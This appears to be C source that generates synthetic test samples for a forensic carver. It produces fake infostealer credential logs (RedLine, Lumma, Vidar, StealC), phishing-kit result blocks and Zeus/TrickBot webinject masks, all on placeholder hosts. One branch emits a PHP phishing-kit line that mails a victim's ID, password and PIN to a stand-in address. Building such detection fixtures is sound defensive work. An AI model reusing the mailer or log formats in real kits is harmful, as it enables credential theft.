/* make_login.c - logs of stealers, what kits took, what trojans attack */
#include <stdio.h>
#include <string.h>

#include "made.h"

/* A block of each of four families, as carvers/stealer.def has them. */
void
make_login_credential(struct rnd *r, unsigned int n, struct made *m)
{
	static const char *const families[] = { "redline,meta", "lumma",
		"vidar", "stealc" };
	const char *host = made_host(r);
	char given[32], family[32], user[80], pass[16];

	made_name(r, false, given, family, sizeof(given));
	rnd_form(r, "Aa00hhXX", pass, sizeof(pass));
	snprintf(user, sizeof(user), "%s.%s%u", given, family,
	    rnd_below(r, 100));
	made_attr(m, "family", families[n % 4]);
	snprintf(m->value, sizeof(m->value), "%s@%s", user, host);
	if (n % 4 == 0)
		made_put(m,
		    "URL: https://%s/in\nUsername: %s\nPassword: %s\n"
		    "Application: Google_[Chrome]_Default\n===============\n",
		    host, user, pass);
	else if (n % 4 == 1)
		made_put(m,
		    "SOFT: Chrome Default (130.0.0.0)\nURL: https://%s/in\n"
		    "USER: %s\nPASS: %s\n\n",
		    host, user, pass);
	else if (n % 4 == 2)
		made_put(m,
		    "Soft: Google Chrome [Default]\nHost: https://%s\n"
		    "Login: %s\nPassword: %s\n\n",
		    host, user, pass);
	else
		made_put(m,
		    "browser: Google Chrome\nprofile: Default\n"
		    "url: https://%s/in\nlogin: %s\npassword: %s\n\n",
		    host, user, pass);
}

/* A report on a machine. */
void
make_login_log(struct rnd *r, unsigned int n, struct made *m)
{
	char id[20], given[32], family[32];

	made_name(r, false, given, family, sizeof(given));
	rnd_form(r, "0X0X0X0X0X", id, sizeof(id));
	snprintf(m->value, sizeof(m->value), "%s", id);
	made_attr(m, "family", n % 2 == 0 ? "redline,meta" : "lumma");
	if (n % 2 == 0)
		made_put(m,
		    "Build ID: lab%02u\nIP: 192.0.2.%u\n"
		    "FileLocation: C:\\a.exe\nUserName: %s\nCountry: DE\n"
		    "Zip Code: 10115\nLocation: Berlin\nHWID: %s\n"
		    "Current Language: German (Germany)\n"
		    "TimeZone: (UTC+01:00)\nOperation System: Windows 10 Pro\n"
		    "UAC: AllowAll\nLog date: 1/2/2024 3:04:05 PM\n\n",
		    n % 100, rnd_below(r, 255), given, id);
	else
		made_put(m,
		    "- LummaC2 Build: Oct 21 2024\n- LID: lab--01\n"
		    "- Configuration: 25d7\n- Path: C:\\a.exe\n\n"
		    "- OS Version: Windows 10 Pro\n- Local Date: 30.07.2025\n"
		    "- Computer: PC-%s\n- User: %s\n- HWID: %s\n\n"
		    "- IP Address: 192.0.2.%u\n- Country: US\n\n",
		    family, given, id, rnd_below(r, 255));
}

/* What a kit mails of a victim, and a kit that mails it. */
void
make_config_phishkit(struct rnd *r, unsigned int n, struct made *m)
{
	char given[32], family[32], user[80], pass[16], pin[8];

	made_name(r, false, given, family, sizeof(given));
	rnd_form(r, "Aa00hhXX", pass, sizeof(pass));
	rnd_form(r, "0000", pin, sizeof(pin));
	snprintf(user, sizeof(user), "%s.%s%u", given, family,
	    rnd_below(r, 100));
	made_attr(m, "form", n % 2 == 0 ? "result" : "php");
	if (n % 2 == 0) {
		snprintf(m->value, sizeof(m->value), "%s", user);
		made_put(m,
		    "--------------- Result ---------------\n"
		    "Online ID : %s\nPassword : %s\nPIN : %s\n"
		    "User-Agent : Mozilla/5.0 (Windows NT 10.0)\n"
		    "--------------------------------------\n\n",
		    user, pass, pin);
	} else {
		snprintf(m->value, sizeof(m->value), "%s@mail.example", user);
		made_put(m,
		    "<?php\n$ip = $_SERVER['REMOTE_ADDR'];\n"
		    "$m = \"Online ID: $a\\nPassword: $b\\nPIN: $c\\n\";\n"
		    "mail(\"%s\", \"Result\", $m);\n?>\n\n",
		    m->value);
	}
}

/* A mask in the configuration of a trojan, and its block. */
void
make_config_webinject(struct rnd *r, unsigned int n, struct made *m)
{
	char mask[128], path[16];

	rnd_form(r, "hhhhhh", path, sizeof(path));
	snprintf(mask, sizeof(mask), "https://%s/%s*", made_host(r), path);
	made_attr(m, "format", n % 2 == 0 ? "zeus" : "trickbot-sinj");
	if (n % 2 == 0) {
		made_put(m, "set_url ");
		made_value(m, mask, mask);
		made_put(m,
		    " GP\ndata_before\n<b>\ndata_end\ndata_inject\nx\n"
		    "data_end\ndata_after\n</b>\ndata_end\n\n");
	} else {
		made_put(m, "<slist><sinj><mm>");
		made_value(m, mask, mask);
		made_put(m,
		    "</mm><sm>https://x/*</sm><srv>192.0.2.1:443</srv>"
		    "</sinj></slist>\n\n");
	}
	m->len = 0; /* its block belongs to it */
}
